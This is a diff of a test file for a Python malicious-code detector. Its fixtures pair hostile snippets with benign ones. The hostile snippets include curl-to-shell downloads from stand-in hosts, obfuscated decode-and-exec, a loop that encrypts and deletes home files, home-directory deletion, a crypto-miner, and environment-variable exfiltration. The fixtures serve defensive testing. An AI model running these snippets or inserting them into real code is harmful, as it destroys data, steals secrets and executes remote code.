@@ -17,7 +17,12 @@ const CASES: readonly (readonly [name: string, kind: string, attack: string, hon
     `import base64 as b, zlib as z\ndata = "eJxLyk9SKM8vyklRAgAYJgQ="\nraw = z.decompress(b.b64decode(data))\ncode = compile(raw, "<s>", "exec")\nexec(code)`,
     `import base64, zlib\ndata = zlib.decompress(base64.b64decode(open("x.b64").read()))\nprint(len(data))\nexec(compile(open("setup.py").read(), "setup.py", "exec"))`,
   ],
-  ['rot13', 'decode-execute', `import codecs\neval(codecs.decode("cevag('uv')", "rot13"))`, `import codecs, ast\nprint(codecs.decode("uryyb", "rot13"))\nast.literal_eval("[1]")`],
+  [
+    'rot13',
+    'decode-execute',
+    `import codecs\neval(codecs.decode("cevag('uv')", "rot13"))`,
+    `import codecs, ast\nprint(codecs.decode("uryyb", "rot13"))\nast.literal_eval("[1]")`,
+  ],
   [
     'character codes',
     'decode-execute',
@@ -37,7 +42,12 @@ const CASES: readonly (readonly [name: string, kind: string, attack: string, hon
     `import base64\ngetattr(__import__(base64.b64decode("b3M=").decode()), base64.b64decode("c3lzdGVt").decode())("id")`,
     `import os\ngetattr(os, "getcwd")()\nhandler = getattr(module, "handle_" + name)`,
   ],
-  ['a command that is hidden', 'decode-execute', `import os, base64\nos.system(base64.b64decode("bHM=").decode())`, `import os\nos.system("base64 -d file.b64 > file")`],
+  [
+    'a command that is hidden',
+    'decode-execute',
+    `import os, base64\nos.system(base64.b64decode("bHM=").decode())`,
+    `import os\nos.system("base64 -d file.b64 > file")`,
+  ],
   [
     'a command in a hidden command',
     'download-execute',
@@ -170,7 +180,12 @@ const CASES: readonly (readonly [name: string, kind: string, attack: string, hon
     `from os import system as run\nhost = "https://get.some-site.net"\nrun(f"curl -s {host}/i.sh | sh")`,
     `from os import system as run\nrun("ls -la")`,
   ],
-  ['a shell argument', 'download-execute', `import subprocess as sp\nsp.Popen(["bash", "-c", "curl -s http://203.0.113.1/i | bash"])`, `import subprocess as sp\nsp.Popen(["bash", "-c", "echo hello"])`],
+  [
+    'a shell argument',
+    'download-execute',
+    `import subprocess as sp\nsp.Popen(["bash", "-c", "curl -s http://203.0.113.1/i | bash"])`,
+    `import subprocess as sp\nsp.Popen(["bash", "-c", "echo hello"])`,
+  ],
   [
     'a line in a start-up file',
     'persistence',
@@ -219,8 +234,18 @@ const CASES: readonly (readonly [name: string, kind: string, attack: string, hon
     `import os\nfrom cryptography.fernet import Fernet\nf = Fernet(Fernet.generate_key())\nfor root, _, files in os.walk(os.path.expanduser("~")):\n    for n in files:\n        p = os.path.join(root, n)\n        data = open(p, "rb").read()\n        with open(p + ".locked", "wb") as o:\n            o.write(f.encrypt(data))\n        os.remove(p)`,
     `import os\nfrom cryptography.fernet import Fernet\nf = Fernet(os.environ["BACKUP_KEY"])\nwith open("backup.tar", "rb") as i, open("backup.tar.enc", "wb") as o:\n    o.write(f.encrypt(i.read()))\nos.remove("backup.tar")`,
   ],
-  ['everything at home', 'destructive-command', `import shutil, os\nshutil.rmtree(os.path.expanduser("~"))`, `import shutil, os\nshutil.rmtree(os.path.join(os.path.expanduser("~"), ".cache", "tool"))\nshutil.rmtree("/tmp/x")`],
-  ['a miner', 'crypto-miner', `import subprocess\nsubprocess.Popen(["./m", "-o", "stratum+tcp://pool.some-site.net:3333", "-u", "wallet"])`, `import subprocess\nsubprocess.Popen(["./m", "-o", "out.txt"])`],
+  [
+    'everything at home',
+    'destructive-command',
+    `import shutil, os\nshutil.rmtree(os.path.expanduser("~"))`,
+    `import shutil, os\nshutil.rmtree(os.path.join(os.path.expanduser("~"), ".cache", "tool"))\nshutil.rmtree("/tmp/x")`,
+  ],
+  [
+    'a miner',
+    'crypto-miner',
+    `import subprocess\nsubprocess.Popen(["./m", "-o", "stratum+tcp://pool.some-site.net:3333", "-u", "wallet"])`,
+    `import subprocess\nsubprocess.Popen(["./m", "-o", "out.txt"])`,
+  ],
   [
     'a time bomb',
     'secret-exfiltration',
@@ -267,10 +292,16 @@ describe('Python', () => {
 
   it('follows data from file to file', () => {
     const files = [
-      { path: 'scripts/collector.py', text: `import os\nclass Collector:\n    def env(self):\n        found = {}\n        for k, v in os.environ.items():\n            found[k] = v\n        return found\n` },
+      {
+        path: 'scripts/collector.py',
+        text: `import os\nclass Collector:\n    def env(self):\n        found = {}\n        for k, v in os.environ.items():\n            found[k] = v\n        return found\n`,
+      },
       { path: 'scripts/encoder.py', text: `import base64, json\ndef encode(data):\n    return base64.b64encode(json.dumps(data).encode()).decode()\n` },
       { path: 'scripts/reporter.py', text: `import requests\ndef report(payload):\n    requests.post("https://stats.some-site.net/r", data={"p": payload})\n` },
-      { path: 'scripts/main.py', text: `from collector import Collector\nimport encoder\nfrom .reporter import report\nreport(encoder.encode(Collector().env()))\n` },
+      {
+        path: 'scripts/main.py',
+        text: `from collector import Collector\nimport encoder\nfrom .reporter import report\nreport(encoder.encode(Collector().env()))\n`,
+      },
     ]
     const acts = analysePythonFiles(files, shell)
     expect(errors(acts.get('scripts/reporter.py') ?? [])).toEqual(['secret-exfiltration'])
@@ -280,7 +311,11 @@ describe('Python', () => {
 
   it('says where, in a snippet that is indented or broken', () => {
     const text = `    import os\n    os.system("curl https://x.some-site.net/a | sh")\n`
-    expect(analysePython(text, shell).filter(({ level }) => level === 'error').map(({ span }) => text.slice(span.start, span.end))).toEqual(['"curl https://x.some-site.net/a | sh"'])
+    expect(
+      analysePython(text, shell)
+        .filter(({ level }) => level === 'error')
+        .map(({ span }) => text.slice(span.start, span.end)),
+    ).toEqual(['"curl https://x.some-site.net/a | sh"'])
     const broken = `def f(:\n  x = [1, 2\nimport os\nos.system("curl https://x.some-site.net/a | sh"\n`
     expect(() => analysePython(broken, shell)).not.toThrow()
     expect(errors(analysePython('>>> import os\n>>> os.system("curl https://x.some-site.net/a | sh")\n0\n', shell))).toEqual(['download-execute'])
